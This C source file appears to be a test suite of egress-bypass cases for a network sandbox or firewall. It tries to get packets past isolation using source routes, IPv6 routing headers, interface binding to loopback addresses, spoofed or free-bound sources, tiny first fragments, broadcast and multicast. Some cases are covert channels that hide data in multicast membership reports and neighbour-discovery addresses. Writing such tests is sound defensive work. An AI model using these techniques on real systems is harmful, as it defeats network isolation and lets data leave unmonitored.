// SPDX-License-Identifier: BSD-2-Clause
/* Options that make a packet go elsewhere than its address says, or hide where it goes. */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/ipv6.h>
#include <linux/seg6.h>
#include <net/if.h>
#include <netinet/igmp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#ifndef IP_UNICAST_IF
#define IP_UNICAST_IF 50
#endif
#ifndef IPV6_UNICAST_IF
#define IPV6_UNICAST_IF 76
#endif

static int udp4(void) { return open_socket(AF_INET, SOCK_DGRAM, 0); }
static int udp6(void) { return open_socket(AF_INET6, SOCK_DGRAM, 0); }
static int tcp4(void) { return open_socket(AF_INET, SOCK_STREAM, 0); }

static void send_message(int fd, void *address, socklen_t size, int level, int type,
			 const void *data, size_t data_size)
{
	_Alignas(struct cmsghdr) char control[512] = {0};
	struct iovec payload = {mark, strlen(mark)};
	struct msghdr m = {.msg_name = address, .msg_namelen = size, .msg_iov = &payload,
			   .msg_iovlen = 1, .msg_control = control,
			   .msg_controllen = CMSG_SPACE(data_size)};
	struct cmsghdr *header = CMSG_FIRSTHDR(&m);

	header->cmsg_level = level;
	header->cmsg_type = type;
	header->cmsg_len = CMSG_LEN(data_size);
	memcpy(CMSG_DATA(header), data, data_size);
	if (sendmsg(fd, &m, MSG_DONTWAIT) < 0)
		perror("sendmsg");
}

/* ---- source routes -------------------------------------------------------------------------- */

struct source_route {
	uint8_t kind, length, pointer;
	uint8_t hops[8];
	uint8_t end;
};

/* Loose (0x83) or strict (0x89): by way of `first`, and on to `last`. */
static struct source_route route_by(uint8_t kind, struct in_addr first, struct in_addr last)
{
	struct source_route route = {.kind = kind, .length = 11, .pointer = 4};

	memcpy(route.hops, &first, 4);
	memcpy(route.hops + 4, &last, 4);
	return route;
}

static void source_routed(int fd, uint8_t kind, struct sockaddr_in address)
{
	struct source_route route = route_by(kind, target4.sin_addr, address.sin_addr);

	set_option(fd, IPPROTO_IP, IP_OPTIONS, &route, sizeof(route));
	address.sin_port = target4.sin_port;
	SEND_TO(fd, address);
}

ATTACK(lsrr_loopback, "", "loose source route: addressed to loopback, by way of the outside")
{
	source_routed(udp4(), 0x83, home4);
}
ATTACK(ssrr_loopback, "", "strict source route: addressed to loopback, by way of the outside")
{
	source_routed(udp4(), 0x89, home4);
}
ATTACK(lsrr_target, "", "loose source route to the outside") { source_routed(udp4(), 0x83, target4); }
ATTACK(lsrr_tcp, "", "TCP with a loose source route: connect() to loopback, SYN to the outside")
{
	struct source_route route = route_by(0x83, target4.sin_addr, home4.sin_addr);
	struct sockaddr_in address = home4;
	int fd = tcp4();

	set_option(fd, IPPROTO_IP, IP_OPTIONS, &route, sizeof(route));
	address.sin_port = target4.sin_port;
	STREAM_TO(fd, address);
}
ATTACK(lsrr_control, "", "a source route as IP_RETOPTS control message")
{
	struct source_route route = route_by(0x83, target4.sin_addr, home4.sin_addr);
	struct sockaddr_in address = home4;

	address.sin_port = target4.sin_port;
	send_message(udp4(), &address, sizeof(address), IPPROTO_IP, IP_RETOPTS, &route,
		     sizeof(route));
}
ATTACK(ip_options_timestamp, "", "IP options (timestamp) before the UDP header")
{
	uint8_t option[8] = {68, 8, 5, 0};
	int fd = udp4();

	set_option(fd, IPPROTO_IP, IP_OPTIONS, option, sizeof(option));
	SEND_TO(fd, target4);
}

/* ---- IPv6 extension headers ----------------------------------------------------------------- */

static size_t routing_header(uint8_t *data, uint8_t type)
{
	struct ipv6_sr_hdr header = {.hdrlen = type == 2 ? 2 : 4, .type = type, .segments_left = 1,
				     .first_segment = type == 4};
	size_t size = sizeof(header);

	memcpy(data, &header, size);
	if (type == 4) { /* segments are in reverse: [0] the last, [1] the first */
		memcpy(data + size, &home6.sin6_addr, 16);
		size += 16;
	}
	memcpy(data + size, &target6.sin6_addr, 16);
	return size + 16;
}

ATTACK(rthdr2_loopback, "", "IPv6 routing header type 2: addressed to ::1, by way of the outside")
{
	uint8_t data[64] = {0};
	size_t size = routing_header(data, 2);

	send_message(udp6(), &home6, sizeof(home6), IPPROTO_IPV6, IPV6_RTHDR, data, size);
}
ATTACK(rthdr4_loopback, "", "IPv6 segment routing header: addressed to ::1, by way of the outside")
{
	uint8_t data[64] = {0};
	size_t size = routing_header(data, 4);
	int fd = udp6();

	set_option(fd, IPPROTO_IPV6, IPV6_RTHDR, data, size);
	SEND_TO(fd, home6);
}
ATTACK(rthdr4_tcp, "", "the same for a TCP connect() to ::1")
{
	uint8_t data[64] = {0};
	size_t size = routing_header(data, 4);
	int fd = open_socket(AF_INET6, SOCK_STREAM, 0);

	set_option(fd, IPPROTO_IPV6, IPV6_RTHDR, data, size);
	STREAM_TO(fd, home6);
}
ATTACK(dstopts6, "", "IPv6 destination options before the UDP header")
{
	uint8_t padding[8] = {0, 0, 1, 4};

	send_message(udp6(), &target6, sizeof(target6), IPPROTO_IPV6, IPV6_DSTOPTS, padding,
		     sizeof(padding));
}
ATTACK(hopopts6, "", "IPv6 hop-by-hop options before the UDP header")
{
	uint8_t padding[8] = {0, 0, 1, 4};

	send_message(udp6(), &target6, sizeof(target6), IPPROTO_IPV6, IPV6_HOPOPTS, padding,
		     sizeof(padding));
}

/* ---- fragments ------------------------------------------------------------------------------ */

static void big(int fd, const void *address, socklen_t size)
{
	static char data[6000];

	for (size_t i = 0; i + 20 < sizeof(data); i += 20)
		snprintf(data + i, 20, "%.19s", mark);
	if (sendto(fd, data, sizeof(data), MSG_DONTWAIT, address, size) < 0)
		perror("sendto");
}

ATTACK(fragments4, "", "a UDP datagram over IPv4 that needs fragments")
{
	big(udp4(), &target4, sizeof(target4));
}
ATTACK(fragments6, "", "a UDP datagram over IPv6 that needs fragments")
{
	big(udp6(), &target6, sizeof(target6));
}
ATTACK(fragments_raw, "", "a raw socket that sends a datagram in fragments, the first tiny")
{
	uint8_t packet[256];
	size_t size = forge_udp4(packet);
	int fd = open_socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	packet[6] = 0x20; /* more fragments */
	if (sendto(fd, packet, 28, 0, (void *)&target4, sizeof(target4)) < 0)
		perror("sendto");
	packet[6] = 0;
	packet[7] = 1;
	memmove(packet + 20, packet + 28, size - 28);
	if (sendto(fd, packet, size - 8, 0, (void *)&target4, sizeof(target4)) < 0)
		perror("sendto");
}

/* ---- interfaces, sources, marks ------------------------------------------------------------- */

static void bind_to_wire(int fd)
{
	char name[16];

	wire_index(name);
	set_option(fd, SOL_SOCKET, SO_BINDTODEVICE, name, strlen(name) + 1);
}

ATTACK(device_loopback4, "", "SO_BINDTODEVICE on the wire, sendto() a 127/8 address")
{
	struct sockaddr_in address = target4;
	int fd = udp4();

	bind_to_wire(fd);
	inet_pton(AF_INET, "127.9.9.9", &address.sin_addr);
	SEND_TO(fd, address);
}
ATTACK(device_loopback_tcp, "", "SO_BINDTODEVICE on the wire, connect() to a 127/8 address")
{
	struct sockaddr_in address = target4;
	int fd = tcp4();

	bind_to_wire(fd);
	inet_pton(AF_INET, "127.9.9.9", &address.sin_addr);
	STREAM_TO(fd, address);
}
ATTACK(device_loopback6, "", "SO_BINDTODEVICE on the wire, sendto() ::1")
{
	struct sockaddr_in6 address = home6;
	int fd = udp6();

	bind_to_wire(fd);
	address.sin6_port = target6.sin6_port;
	SEND_TO(fd, address);
}
ATTACK(device_dns, "", "SO_BINDTODEVICE on the wire, a steered DNS query")
{
	struct sockaddr_in address = target4;
	int fd = udp4();

	bind_to_wire(fd);
	address.sin_port = htons(53);
	SEND_TO(fd, address);
}
ATTACK(device_proxy, "", "SO_BINDTODEVICE on the wire, a TCP connection that is steered")
{
	struct sockaddr_in address = target4;
	int fd = tcp4();

	bind_to_wire(fd);
	address.sin_port = htons(53);
	inet_pton(AF_INET, setting("ORIGIN4"), &address.sin_addr);
	set_int(fd, IPPROTO_IP, IP_TTL, 9);
	fcntl(fd, F_SETFL, O_NONBLOCK);
	connect(fd, (void *)&address, sizeof(address));
	address.sin_port = target4.sin_port;
	fd = tcp4();
	bind_to_wire(fd);
	STREAM_TO(fd, address);
}
ATTACK(device_target, "", "SO_BINDTODEVICE on the wire, sendto() the outside")
{
	int fd = udp4();

	bind_to_wire(fd);
	SEND_TO(fd, target4);
}
ATTACK(unicast_if, "", "IP_UNICAST_IF on the wire, sendto() a 127/8 address")
{
	struct sockaddr_in address = target4;
	char name[16];
	int fd = udp4();

	set_int(fd, IPPROTO_IP, IP_UNICAST_IF, (int)htonl(wire_index(name)));
	inet_pton(AF_INET, "127.9.9.9", &address.sin_addr);
	SEND_TO(fd, address);
	SEND_TO(fd, target4);
}
ATTACK(pktinfo4, "", "IP_PKTINFO names the wire and a source, sendmsg() a 127/8 address")
{
	struct sockaddr_in address = target4;
	struct in_pktinfo info = {0};
	char name[16];

	info.ipi_ifindex = (int)wire_index(name);
	inet_pton(AF_INET, "203.0.113.1", &info.ipi_spec_dst);
	inet_pton(AF_INET, "127.9.9.9", &address.sin_addr);
	send_message(udp4(), &address, sizeof(address), IPPROTO_IP, IP_PKTINFO, &info, sizeof(info));
	send_message(udp4(), &target4, sizeof(target4), IPPROTO_IP, IP_PKTINFO, &info,
		     sizeof(info));
}
ATTACK(pktinfo6, "", "IPV6_PKTINFO names the wire, sendmsg() the outside")
{
	struct in6_pktinfo info = {0};
	char name[16];

	info.ipi6_ifindex = wire_index(name);
	send_message(udp6(), &home6, sizeof(home6), IPPROTO_IPV6, IPV6_PKTINFO, &info, sizeof(info));
	send_message(udp6(), &target6, sizeof(target6), IPPROTO_IPV6, IPV6_PKTINFO, &info,
		     sizeof(info));
}
ATTACK(so_mark, "", "SO_MARK, as policy routing and VPNs use it")
{
	int fd = udp4();

	set_int(fd, SOL_SOCKET, SO_MARK, 0x2a);
	SEND_TO(fd, target4);
}
ATTACK(priority_tos, "", "IP_TOS and SO_PRIORITY set") 
{
	int fd = udp4();

	set_int(fd, IPPROTO_IP, IP_TOS, 0x28);
	set_int(fd, SOL_SOCKET, SO_PRIORITY, 6);
	SEND_TO(fd, target4);
}
ATTACK(bind_source, "", "bound to the host's address first")
{
	struct sockaddr_in source = {.sin_family = AF_INET};
	int fd = udp4();

	inet_pton(AF_INET, setting("HOST4"), &source.sin_addr);
	need(bind(fd, (void *)&source, sizeof(source)), "bind");
	SEND_TO(fd, target4);
}
ATTACK(bind_dns_port, "", "sends from source port 53")
{
	struct sockaddr_in source = {.sin_family = AF_INET, .sin_port = htons(53)};
	int fd = udp4();

	set_int(fd, SOL_SOCKET, SO_REUSEADDR, 1);
	need(bind(fd, (void *)&source, sizeof(source)), "bind");
	SEND_TO(fd, target4);
}
ATTACK(bind_freebind, "", "IP_FREEBIND to an address that is nobody's")
{
	struct sockaddr_in source = {.sin_family = AF_INET};
	int fd = udp4();

	set_int(fd, IPPROTO_IP, IP_FREEBIND, 1);
	inet_pton(AF_INET, "203.0.113.77", &source.sin_addr);
	need(bind(fd, (void *)&source, sizeof(source)), "bind");
	SEND_TO(fd, target4);
}
ATTACK(bind_transparent, "", "IP_TRANSPARENT, with a foreign source address")
{
	struct sockaddr_in source = {.sin_family = AF_INET};
	int fd = udp4();

	set_int(fd, IPPROTO_IP, IP_TRANSPARENT, 1);
	inet_pton(AF_INET, "203.0.113.78", &source.sin_addr);
	need(bind(fd, (void *)&source, sizeof(source)), "bind");
	SEND_TO(fd, target4);
}
ATTACK(connected_elsewhere4, "", "UDP connected to loopback, then sendto() outside")
{
	struct sockaddr_in source = {.sin_family = AF_INET};
	int fd = udp4();

	inet_pton(AF_INET, setting("HOST4"), &source.sin_addr);
	if (bind(fd, (void *)&source, sizeof(source)) < 0)
		perror("bind");
	connect(fd, (void *)&home4, sizeof(home4));
	SEND_TO(fd, target4);
}
ATTACK(unspec_sendto_connected, "", "the same, with family AF_UNSPEC in sendto()")
{
	struct sockaddr_in source = {.sin_family = AF_INET}, address = target4;
	int fd = udp4();

	inet_pton(AF_INET, setting("HOST4"), &source.sin_addr);
	if (bind(fd, (void *)&source, sizeof(source)) < 0)
		perror("bind");
	connect(fd, (void *)&home4, sizeof(home4));
	address.sin_family = AF_UNSPEC;
	SEND_TO(fd, address);
}

/* ---- many receivers ------------------------------------------------------------------------- */

ATTACK(broadcast_all, "", "UDP to 255.255.255.255 on the wire")
{
	struct sockaddr_in address = target4;
	int fd = udp4();

	set_int(fd, SOL_SOCKET, SO_BROADCAST, 1);
	bind_to_wire(fd);
	address.sin_addr.s_addr = INADDR_BROADCAST;
	SEND_TO(fd, address);
}
ATTACK(broadcast_net, "", "UDP to the network's broadcast address")
{
	struct sockaddr_in address = target4;
	int fd = udp4();

	set_int(fd, SOL_SOCKET, SO_BROADCAST, 1);
	inet_pton(AF_INET, "203.0.113.255", &address.sin_addr);
	SEND_TO(fd, address);
}
ATTACK(multicast4, "", "UDP to an IPv4 group on the wire")
{
	struct ip_mreqn wire = {0};
	struct sockaddr_in address = target4;
	char name[16];
	int fd = udp4();

	wire.imr_ifindex = (int)wire_index(name);
	set_option(fd, IPPROTO_IP, IP_MULTICAST_IF, &wire, sizeof(wire));
	inet_pton(AF_INET, "239.1.2.3", &address.sin_addr);
	SEND_TO(fd, address);
}
ATTACK(multicast6, "", "UDP to an IPv6 group on the wire")
{
	struct sockaddr_in6 address = target6;
	char name[16];
	int fd = udp6();

	set_int(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, (int)wire_index(name));
	inet_pton(AF_INET6, "ff02::fb", &address.sin6_addr);
	SEND_TO(fd, address);
}
/* The kernel reports memberships itself, from no socket: three bytes of ours in each report. */
ATTACK(igmp_membership, "", "joins an IPv4 group whose address is the data: the kernel reports it")
{
	struct ip_mreqn group = {0};
	char name[16];

	group.imr_ifindex = (int)wire_index(name);
	inet_pton(AF_INET, setting("GROUP4"), &group.imr_multiaddr);
	set_option(udp4(), IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof(group));
	sleep(1);
}
ATTACK(mld_membership, "", "joins an IPv6 group whose address is the data: the kernel reports it")
{
	struct ipv6_mreq group = {0};
	char name[16];

	group.ipv6mr_interface = wire_index(name);
	inet_pton(AF_INET6, setting("GROUP6"), &group.ipv6mr_multiaddr);
	set_option(udp6(), IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &group, sizeof(group));
	sleep(2);
}
ATTACK(igmp_source_filter, "", "joins a group for one source: the source is the data")
{
	struct ip_mreq_source group = {0};
	char text[32];

	snprintf(text, sizeof(text), "%s", setting("GROUP4"));
	inet_pton(AF_INET, "232.1.1.1", &group.imr_multiaddr);
	inet_pton(AF_INET, setting("HOST4"), &group.imr_interface);
	inet_pton(AF_INET, text, &group.imr_sourceaddr);
	/* a source must be unicast: 139.x.y.z would do for an attacker; here the group carries it */
	group.imr_multiaddr = group.imr_sourceaddr;
	inet_pton(AF_INET, "198.51.100.9", &group.imr_sourceaddr);
	set_option(udp4(), IPPROTO_IP, IP_ADD_SOURCE_MEMBERSHIP, &group, sizeof(group));
	sleep(1);
}
/* What is asked of neighbours before anything is sent is 64 bits of an address. */
ATTACK(neighbour6, "", "sends to a neighbour whose address is the data: the kernel asks for it")
{
	struct sockaddr_in6 address = target6;

	inet_pton(AF_INET6, setting("ONLINK6"), &address.sin6_addr);
	SEND_TO(udp6(), address);
	STREAM_TO(open_socket(AF_INET6, SOCK_STREAM, 0), address);
}
